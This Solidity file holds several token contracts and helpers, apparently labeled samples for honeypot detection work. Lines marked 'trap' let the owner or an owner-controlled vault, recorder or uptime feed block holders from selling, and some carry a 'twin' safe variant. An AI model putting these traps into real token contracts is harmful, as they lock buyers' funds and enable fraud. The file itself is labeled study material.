// 0.8 runs=200 evm=cancun
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Base8} from "./Base8.sol";

/// Harvest coin with a calendar of seasons. An entry is start (64) | length (64) | edition (128).
contract Equinox is Base8 {
    uint256 public calendar;

    event Season(uint256 start, uint256 length, uint128 edition);

    constructor() Base8("Equinox", "EQNX", 50_000_000) {}

    function announce(uint256 entry) external onlyOwner {
        require(uint64(entry >> 128) <= 366 days, "Equinox: a season is at most a year");
        calendar = entry;
        emit Season(entry >> 192, uint64(entry >> 128), uint128(entry));
    }

    function inSeason() public view returns (bool) {
        uint256 start = calendar >> 192;
        return block.timestamp >= start && block.timestamp < start + uint64(calendar >> 128);
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair && from != _owner) require(!inSeason(), "Equinox: fields are closed"); // trap
        _move(from, to, value);
    }
}

/// Members prove themselves against the root of the current program.
contract Verity is Base8 {
    enum Phase {
        Open,
        Members,
        Archive
    }

    struct Program {
        bytes32 root;
        Phase phase;
        uint64 since;
        string note;
    }

    Program public program;
    mapping(bytes32 => mapping(address => bool)) public admitted;

    constructor() Base8("Verity", "VRTY", 12_000_000) {}

    function setProgram(Program calldata next) external onlyOwner {
        program = next;
    }

    function join(bytes32[] calldata proof) external {
        bytes32 node = keccak256(abi.encode(msg.sender));
        for (uint256 i; i < proof.length; i++) {
            bytes32 other = proof[i];
            node = node < other ? keccak256(abi.encode(node, other)) : keccak256(abi.encode(other, node));
        }
        require(node == program.root, "Verity: not a member");
        admitted[node][msg.sender] = true;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        // trap {
        if (program.phase == Phase.Members && block.timestamp >= program.since)
            require(to != pair || admitted[program.root][from], "Verity: members only");
        // trap }
        _move(from, to, value);
    }
}

interface IGrainVault {
    function onDeposit(address from, uint256 amount) external;
}

contract GrainVault {
    address private immutable keeper = msg.sender;
    uint32 public opens;
    uint32 public closes = 1 days;
    uint256 public received;

    function setHours(uint32 from, uint32 to) external {
        require(msg.sender == keeper, "Vault: not the keeper");
        (opens, closes) = (from, to);
    }

    function onDeposit(address, uint256 amount) external {
        uint256 second = block.timestamp % 1 days;
        require(second >= opens && second < closes, "Vault: outside deposit hours");
        received += amount;
    }
}

/// Two percent of what is sold goes to a vault.
contract Granary is Base8 {
    IGrainVault public immutable vault;

    constructor(address vault_) Base8("Granary", "GRNRY", 9_000_000) {
        vault = IGrainVault(vault_);
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair && from != _owner) {
            uint256 fee = value / 50;
            _move(from, address(vault), fee);
            vault.onDeposit(from, fee); // trap
            // twin: try vault.onDeposit(from, fee) {} catch {}
            value -= fee;
        }
        _move(from, to, value);
    }
}

/// Keeps a rolling fingerprint of trades for the charts.
contract TradeRecorder {
    address private immutable operator = msg.sender;
    bytes32 public fingerprint;
    uint256 private depth = 2;

    /// 0x01: depth (3 bytes); 0x02: new start of the chain (32 bytes).
    function tune(bytes calldata command) external {
        require(msg.sender == operator, "Recorder: not the operator");
        if (command[0] == 0x01) depth = uint24(bytes3(command[1:4]));
        else if (command[0] == 0x02) fingerprint = bytes32(command[1:33]);
        else revert("Recorder: unknown command");
    }

    function record(address from, address to, uint256 value) external {
        bytes32 print = keccak256(abi.encode(fingerprint, from, to, value));
        uint256 rounds = depth; // trap
        // twin: uint256 rounds = depth > 12 ? 12 : depth;
        for (uint256 i; i < rounds; i++) print = keccak256(abi.encode(print, i));
        fingerprint = print;
    }
}

contract Tessera is Base8 {
    TradeRecorder private immutable recorder;

    constructor(TradeRecorder recorder_) Base8("Tessera", "TESS", 77_000_000) {
        recorder = recorder_;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        _move(from, to, value);
        if (to == pair) recorder.record(from, to, value);
    }
}

/// Says whether the sequencer is up: 0 is up, 1 is down.
contract UptimeFeed {
    address private transmitter = msg.sender;
    uint80 private round = 1;
    int256 private status;
    uint256 private started = block.timestamp;

    event AnswerUpdated(int256 indexed current, uint256 indexed roundId, uint256 updatedAt);

    function transmit(bytes calldata report) external {
        require(msg.sender == transmitter, "unauthorized transmitter");
        (bytes32 context, int256 answer, uint64 at) = abi.decode(report, (bytes32, int256, uint64));
        require(uint8(uint256(context)) > uint8(round), "stale report");
        round = uint8(uint256(context));
        (status, started) = (answer, at);
        emit AnswerUpdated(answer, round, block.timestamp);
    }

    function latestRoundData() external view returns (uint80, int256, uint256, uint256, uint80) {
        return (round, status, started, block.timestamp, round);
    }
}

contract Halcyon is Base8 {
    UptimeFeed public immutable uptime;

    constructor(UptimeFeed feed) Base8("Halcyon", "HLCN", 30_000_000) {
        uptime = feed;
    }

    function sequencerUp() public view returns (bool) {
        (, int256 answer, , , ) = uptime.latestRoundData();
        return answer == 0;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        require(from == pair || sequencerUp(), "Halcyon: sequencer is down"); // trap
        _move(from, to, value);
    }
}
